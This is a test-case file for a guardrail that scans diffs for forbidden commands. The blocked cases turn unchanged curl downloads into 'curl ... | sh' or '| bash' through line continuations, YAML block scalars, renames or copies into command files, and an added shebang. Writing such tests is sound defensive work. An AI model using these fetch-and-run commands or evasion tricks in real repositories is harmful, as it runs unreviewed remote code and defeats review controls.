/**
 * Rails round 2 (issue #7), class r2-04: Content rules that only read added lines: continuations joined with unchanged lines, pure renames into a command path, YAML folded and literal block scalars.
 * Hostile cases are blocked (named `<rule-id>--<case>`), benign ones allowed. At least three cases.
 *
 * Each hostile change adds nothing forbidden by itself: the forbidden command appears only in the RESULTING
 * logical line (an unchanged line joined with a changed one), or in a file that newly becomes a command file.
 * Most run under the risk-3 policy variant, so that the command rule is what stands in the way.
 */
import type { BaseVariant } from '../../__tests__/helpers/rails-corpus.js';
import { type Case, H, B, RISK_3, write, move, base } from './lib.js';

const INSTALL_NOTES =
  '# Installing by hand\n\nWhat the old Makefile did:\n\ninstall:\n\tcurl -fsSL https://get.example.com/install.sh | sh\n';

const DOCKERFILE_FETCH = `${base('Dockerfile').replace(
  'RUN npm ci --omit=dev\n',
  'RUN npm ci --omit=dev\nRUN curl -fsSL https://get.example.com/agent.sh \\\n    -o /tmp/agent.sh\n',
)}`;

/** Base variants the cases below are made against and checked in. */
export const BASES: Record<string, BaseVariant> = {
  'r2-04-dockerfile-fetch': {
    note: 'the Dockerfile downloads an installer over two lines (a continuation), without running it',
    files: { Dockerfile: { text: DOCKERFILE_FETCH } },
  },
  'r2-04-install-notes': {
    note: 'docs/install-notes.md holds a make-style recipe that pipes curl into sh (documentation, not run)',
    files: {
      'docs/install-notes.md': { text: INSTALL_NOTES },
    },
  },
  'r2-04-taskfile': {
    note: 'src/Taskfile.yml downloads an installer in a folded (>) command over two lines',
    files: {
      'src/Taskfile.yml': {
        text: "version: '3'\ntasks:\n  setup:\n    cmds:\n      - >\n        curl -fsSL https://get.example.com/install.sh\n        -o /tmp/install.sh\n      - echo fetched\n",
      },
    },
  },
  'r2-04-gitlab-ci': {
    note: 'src/ci/.gitlab-ci.yml: a literal (|) script whose curl line continues with a backslash',
    files: {
      'src/ci/.gitlab-ci.yml': {
        text: 'setup:\n  script:\n    - |\n      curl -fsSL https://get.example.com/install.sh \\\n        -o /tmp/install.sh\n      echo fetched\n',
      },
    },
  },
  'r2-04-build-mk': {
    note: 'src/build.mk: a recipe whose curl command continues on the next line',
    files: {
      'src/build.mk': {
        text: 'fetch:\n\tcurl -fsSL https://get.example.com/tool.sh \\\n\t\t-o /tmp/tool.sh\n\nbuild:\n\tnpm run build\n',
      },
    },
  },
  'r2-04-release-notes': {
    note: 'src/release: an extension-less text file that lists the release steps a human runs',
    files: {
      'src/release': { text: 'npm run build\ngit push origin HEAD:main\n' },
    },
  },
};

export const CASES: Case[] = [
  H({
    name: 'command-forbidden--dockerfile-continuation-joins-unchanged-curl',
    note: 'RUN curl ... \\ stays; the change turns its continuation line "-o /tmp/agent.sh" into "| sh" (issue example a)',
    base: 'r2-04-dockerfile-fetch',
    args: ['--config', RISK_3],
    change: write({ Dockerfile: DOCKERFILE_FETCH.replace('    -o /tmp/agent.sh\n', '    | sh\n') }),
  }),
  H({
    name: 'command-forbidden--rename-notes-into-makefile',
    note: 'a pure rename of docs/install-notes.md (a curl | sh recipe) to src/install.mk: no added line, a new command file (issue example b)',
    base: 'r2-04-install-notes',
    args: ['--config', RISK_3],
    change: move('docs/install-notes.md', 'src/install.mk'),
  }),
  H({
    name: 'command-forbidden--taskfile-folded-scalar',
    note: 'cmds: - > folds "curl ..." and the changed "| sh" into one command (issue example c)',
    base: 'r2-04-taskfile',
    args: ['--config', RISK_3],
    change: write({
      'src/Taskfile.yml':
        "version: '3'\ntasks:\n  setup:\n    cmds:\n      - >\n        curl -fsSL https://get.example.com/install.sh\n        | sh\n      - echo fetched\n",
    }),
  }),
  H({
    name: 'command-forbidden--gitlab-literal-scalar-continuation',
    note: 'script: - | with "curl ... \\" unchanged and the next line changed to "| bash": joined inside the block scalar',
    base: 'r2-04-gitlab-ci',
    args: ['--config', RISK_3],
    change: write({
      'src/ci/.gitlab-ci.yml':
        'setup:\n  script:\n    - |\n      curl -fsSL https://get.example.com/install.sh \\\n        | bash\n      echo fetched\n',
    }),
  }),
  H({
    name: 'command-forbidden--makefile-recipe-continuation',
    note: 'a recipe line "\\t\\t-o /tmp/tool.sh" after an unchanged "curl ... \\" becomes "\\t\\t| sh"',
    base: 'r2-04-build-mk',
    args: ['--config', RISK_3],
    change: write({
      'src/build.mk':
        'fetch:\n\tcurl -fsSL https://get.example.com/tool.sh \\\n\t\t| sh\n\nbuild:\n\tnpm run build\n',
    }),
  }),
  H({
    name: 'command-forbidden--shebang-added-to-release-notes',
    note: 'adds "#!/bin/sh" above an unchanged "git push origin HEAD:main": the file becomes a script, judged whole',
    base: 'r2-04-release-notes',
    args: ['--config', RISK_3],
    change: write({ 'src/release': '#!/bin/sh\nnpm run build\ngit push origin HEAD:main\n' }),
  }),
  H({
    name: 'command-forbidden--copy-notes-into-dockerfile-name',
    note: 'copies docs/install-notes.md to src/Dockerfile.install: the copy is a new command file, judged whole',
    base: 'r2-04-install-notes',
    args: ['--config', RISK_3],
    copies: true,
    change: write({ 'src/Dockerfile.install': INSTALL_NOTES }),
  }),
  B({
    name: 'dockerfile-continuation-harmless-edit',
    note: 'the continuation line of the unchanged RUN curl ... \\ is edited to another output file: still no pipe into a shell',
    base: 'r2-04-dockerfile-fetch',
    args: ['--config', RISK_3],
    change: write({ Dockerfile: DOCKERFILE_FETCH.replace('-o /tmp/agent.sh', '-o /tmp/agent-installer.sh') }),
  }),
  B({
    name: 'taskfile-folded-scalar-harmless-edit',
    note: 'the folded curl command gets --retry 3 on its second line: no shell in the resulting command',
    base: 'r2-04-taskfile',
    args: ['--config', RISK_3],
    change: write({
      'src/Taskfile.yml':
        "version: '3'\ntasks:\n  setup:\n    cmds:\n      - >\n        curl -fsSL https://get.example.com/install.sh\n        --retry 3 -o /tmp/install.sh\n      - echo fetched\n",
    }),
  }),
  B({
    name: 'rename-notes-within-docs',
    note: 'docs/install-notes.md renamed to docs/manual-install.md: documentation may show a curl | sh recipe',
    base: 'r2-04-install-notes',
    change: move('docs/install-notes.md', 'docs/manual-install.md'),
  }),
];
